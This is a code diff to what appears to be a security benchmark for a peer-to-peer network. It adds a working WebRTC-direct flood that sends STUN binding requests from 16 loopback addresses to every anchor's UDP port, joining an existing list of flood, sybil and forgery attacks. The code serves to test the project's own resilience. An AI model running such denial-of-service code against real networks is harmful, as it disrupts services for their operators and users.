@@ -11,13 +11,15 @@ import { MAX_BLOCK_BYTES, PEER_DIRECTORY_BUCKET, PROTOCOLS, commandSubject, memb
 import { cidOf, storeRequest } from '@meganet/node/testing'
 import { rawNode } from './attack-node.js'
 import { DHT_MESSAGE_TYPES, encodeMessage, encodeRecord } from './dht-wire.js'
+import { StunDialler } from './stun-wire.js'
 import type { RawNode } from './attack-node.js'
 import type { Stream } from '@libp2p/interface'
 
-/** An anchor as an attacker sees it: its PeerId, its TCP address and its HTTP base URL. */
+/** An anchor as an attacker sees it: its PeerId, its TCP and WebRTC-direct addresses and its HTTP base URL. */
 export interface AnchorRef {
   readonly peerId: string
   readonly tcpAddress: string
+  readonly webrtcDirectAddress?: string
   readonly httpUrl: string
 }
 
@@ -228,5 +230,26 @@ const httpFlood: Attack = {
   }
 }
 
-/** Every attack of issue 13, in the order the benchmark runs them. */
-export const ATTACKS: readonly Attack[] = [natsForgery, storageSybil, stalledUploads, dhtFlood, relayStarvation, httpFlood]
+/** The host and UDP port of a WebRTC-direct address. */
+function udpTarget (address: string | undefined): { host: string, port: number } | undefined {
+  if (address == null) return undefined
+  const components = multiaddr(address).getComponents()
+  const host = components.find(c => c.name === 'ip4' || c.name === 'ip6')?.value
+  const port = components.find(c => c.name === 'udp')?.value
+  return host == null || port == null ? undefined : { host, port: Number(port) }
+}
+
+/** Issue 17's security pass: each STUN binding request with a fresh ufrag made the anchor build a native peer connection. */
+const webrtcDirectFlood: Attack = {
+  name: 'webrtc-direct-flood',
+  finding: 'STUN binding requests, each for a new connection, from 16 addresses to every anchor\'s WebRTC-direct port, about 320 a second per anchor',
+  start: async target => {
+    const ports = target.anchors.flatMap(anchor => udpTarget(anchor.webrtcDirectAddress) ?? [])
+    const sources = await Promise.all(Array.from({ length: 16 }, async (_, i) => await StunDialler.bind(`127.0.7.${1 + i}`)))
+    const attacks = sources.flatMap(source => ports.map(({ host, port }) => loop(async () => { await source.request(host, port) }, 50)))
+    return parallel(attacks, async () => { await Promise.all(sources.map(async source => { await source.close() })) })
+  }
+}
+
+/** Every attack of issues 13 and 17, in the order the benchmark runs them. */
+export const ATTACKS: readonly Attack[] = [natsForgery, storageSybil, stalledUploads, dhtFlood, relayStarvation, httpFlood, webrtcDirectFlood]
